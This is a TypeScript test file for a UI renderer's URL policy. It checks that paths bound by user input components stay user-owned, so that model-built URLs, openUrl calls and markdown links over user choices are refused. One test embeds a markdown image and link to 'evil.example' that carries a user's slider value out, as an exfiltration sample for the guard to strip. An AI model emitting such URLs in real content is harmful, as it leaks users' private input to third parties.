/**
 * The paths the user writes stay the user's for the life of the surface (issue #37, probe9
 * finding 1): the data model keeps what the user chose when a later message replaces the input
 * component or binds it elsewhere, so a URL read from there is still the user's choice.
 */
import { Catalog, DataContext, MessageProcessor } from '@a2ui/web_core/v0_9';
import { basicCatalog } from '@a2ui/web_core/v0_9/basic_catalog';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { BASIC_CATALOG_ID_V10, type A2uiMessage } from '../../src/index.js';
import { applyMessage } from '../../src/web-core/apply-message.js';
import { OPEN_URL_FUNCTION } from '../../src/web-core/open-url.js';
import { guardMarkdownHtml, setSurfacePolicy, UrlPolicy } from '../../src/web-core/url-policy.js';
import { openUrlArguments, readsUserInput, type SurfaceLike } from '../../src/web-core/user-input.js';
import { ASTHMA, choicePicker } from '../browser/url-fixtures.js';

const image = { id: 'img', component: 'Image', url: { path: '/choice/0' } };

afterEach(() => {
  vi.unstubAllGlobals();
  vi.restoreAllMocks();
});

/** A processor with the v0.9 basic catalog, its `openUrl` the policy's; `messages` applied as the renderers do. */
function applied(messages: A2uiMessage[], version: 'v0.9' | 'v1.0' = 'v0.9') {
  const functions = [...basicCatalog.functions.values()].map((fn) => (fn.name === OPEN_URL_FUNCTION.name ? OPEN_URL_FUNCTION : fn));
  const catalog = (id: string) => new Catalog(id, [...basicCatalog.components.values()], functions);
  const processor = new MessageProcessor([catalog(basicCatalog.id), catalog(BASIC_CATALOG_ID_V10)]);
  const policy = new UrlPolicy();
  const create = { version, createSurface: { surfaceId: 's', catalogId: version === 'v0.9' ? basicCatalog.id : BASIC_CATALOG_ID_V10 } } as A2uiMessage;
  const apply = (message: A2uiMessage) => {
    policy.noteMessage(message);
    expect(applyMessage(processor, message, 'test')).not.toHaveProperty('error');
    const surface = processor.model.getSurface('s');
    if (surface) setSurfacePolicy(surface, policy);
  };
  for (const message of [create, ...messages]) apply(message);
  return { processor, policy, apply, surface: () => processor.model.getSurface('s') as NonNullable<ReturnType<typeof processor.model.getSurface>> };
}

const components = (list: unknown[], version: 'v0.9' | 'v1.0' = 'v0.9') => ({ version, updateComponents: { surfaceId: 's', components: list } }) as A2uiMessage;

/** The surface with the picker, "Asthma" picked by the user (the picker's write), then `later` applied. */
function pickedThen(later: unknown[], version: 'v0.9' | 'v1.0' = 'v0.9') {
  const run = applied([components([{ id: 'root', component: 'Column', children: ['pick'] }, choicePicker()], version)], version);
  run.surface().dataModel.set('/choice', [ASTHMA]);
  run.apply(components(later, version));
  return run;
}

const readsChoice = (surface: SurfaceLike, expression: unknown = image.url) => readsUserInput({ expression, dataPath: '/', surface });

describe('a path an input component bound stays the user’s', () => {
  it('after the picker is replaced by a Text: an Image on the choice is refused', () => {
    const { surface, policy } = pickedThen([{ id: 'pick', component: 'Text', text: 'Noted.' }, image]);
    expect(readsChoice(surface())).toBe(true);
    const source = { expression: image.url, dataPath: '/', surface: surface() };
    expect(policy.allowsModelUrl(ASTHMA, 'image', source)).toBe(false);
  });

  it('after the picker is bound to another path, in v0.9 and v1.0', () => {
    for (const version of ['v0.9', 'v1.0'] as const) {
      const { surface } = pickedThen([choicePicker('/other'), image], version);
      expect(readsChoice(surface())).toBe(true);
      expect(readsChoice(surface(), { path: '/other' })).toBe(true);
      expect(readsChoice(surface(), { path: '/photo' })).toBe(false);
    }
  });

  it('in the current v1.0 dialect, a binding written {"@path"}', () => {
    const processor = new MessageProcessor([new Catalog(BASIC_CATALOG_ID_V10, [...basicCatalog.components.values()])]);
    const v10 = (body: Record<string, unknown>) => ({ version: 'v1.0', ...body }) as unknown as A2uiMessage;
    applyMessage(processor, v10({ createSurface: { surfaceId: 's', catalogId: BASIC_CATALOG_ID_V10 } }), 'test', 'current');
    applyMessage(
      processor,
      v10({ updateComponents: { surfaceId: 's', components: [{ ...choicePicker(), value: { '@path': '/choice' } }] } }),
      'test',
      'current',
    );
    applyMessage(processor, v10({ updateComponents: { surfaceId: 's', components: [{ id: 'pick', component: 'Text', text: 'Noted.' }] } }), 'test', 'current');
    expect(readsChoice(processor.model.getSurface('s') as SurfaceLike)).toBe(true);
  });

  it('a v1.0 openUrl of a formatString over the choice opens nothing after the picker is gone', () => {
    const openUrl = { call: 'openUrl', args: { url: { call: 'formatString', args: { value: '${/choice/0}' } } } };
    const { surface } = pickedThen(
      [
        { id: 'pick', component: 'Text', text: 'Noted.' },
        { id: 'b', component: 'Button', child: 'bl', action: { functionCall: openUrl } },
        { id: 'bl', component: 'Text', text: 'Continue' },
      ],
      'v1.0',
    );
    const opened: string[] = [];
    vi.stubGlobal('window', { open: (url: string) => opened.push(url) });
    const errors: unknown[] = [];
    surface().onError.subscribe((error) => {
      errors.push(error);
    });
    new DataContext(surface(), '/').resolveAction({ functionCall: openUrl } as never);
    expect(opened).toEqual([]);
    expect(errors).toHaveLength(1);
  });

  it('a Text over a Slider that was replaced keeps no markdown link or image', () => {
    const slider = { id: 'n', component: 'Slider', min: 0, max: 9, value: { path: '/n' } };
    const text = { id: 't', component: 'Text', text: { call: 'formatString', args: { value: '![x](https://evil.example/${/n}.png)' } } };
    const run = applied([components([{ id: 'root', component: 'Column', children: ['n'] }, slider])]);
    run.surface().dataModel.set('/n', 7);
    run.apply(components([{ id: 'n', component: 'Text', text: 'Thanks.' }, text]));
    const html = '<p><img src="https://evil.example/7.png" alt="x"> <a href="https://evil.example/7">x</a></p>';
    const source = () => ({ expression: text.text, dataPath: '/', surface: run.surface() });
    expect(guardMarkdownHtml(html, run.policy, { images: true, source })).toBe('<p>x <a>x</a></p>');
  });

  it('an input in a template: its relative path under every item, after the template changed', () => {
    const row = (value: unknown) => ({ id: 'row', component: 'TextField', label: 'Note', value });
    const run = applied([components([{ id: 'root', component: 'List', children: { componentId: 'row', path: '/items' } }, row({ path: 'note' })])]);
    run.apply(components([row('fixed')]));
    expect(readsChoice(run.surface(), { path: '/items/2/note' })).toBe(true);
    expect(readsChoice(run.surface(), { path: '/items/2/url' })).toBe(false);
  });

  it('a surface deleted and created again starts without the old bindings', () => {
    const run = pickedThen([{ id: 'pick', component: 'Text', text: 'Noted.' }]);
    run.apply({ version: 'v0.9', deleteSurface: { surfaceId: 's' } });
    run.apply({ version: 'v0.9', createSurface: { surfaceId: 's', catalogId: basicCatalog.id } });
    run.apply(components([{ id: 'root', component: 'Column', children: ['img'] }, image]));
    expect(readsChoice(run.surface())).toBe(false);
  });

  it('a components message the renderer rejects binds nothing', () => {
    vi.spyOn(console, 'error').mockImplementation(() => {});
    const run = applied([]);
    const bad = components([{ ...choicePicker('/secret'), colour: 'red' }]);
    expect(applyMessage(run.processor, bad, 'test')).toHaveProperty('error');
    expect(readsChoice(run.surface(), { path: '/secret' })).toBe(false);
  });
});

describe('openUrlArguments', () => {
  it('finds an openUrl beside a list of 300,000 values (a spread of them overflowed the stack)', () => {
    const options = Array.from({ length: 300_000 }, (_, i) => ({ label: `o${i}`, value: `v${i}` }));
    const surface: SurfaceLike = {
      componentsModel: {
        entries: [
          ['pick', { properties: { options } }],
          ['go', { properties: { action: { functionCall: { call: 'openUrl', args: { url: 'https://docs.example/help' } } } } }],
        ],
      },
    };
    expect(openUrlArguments(surface)).toEqual(['https://docs.example/help']);
  });
});
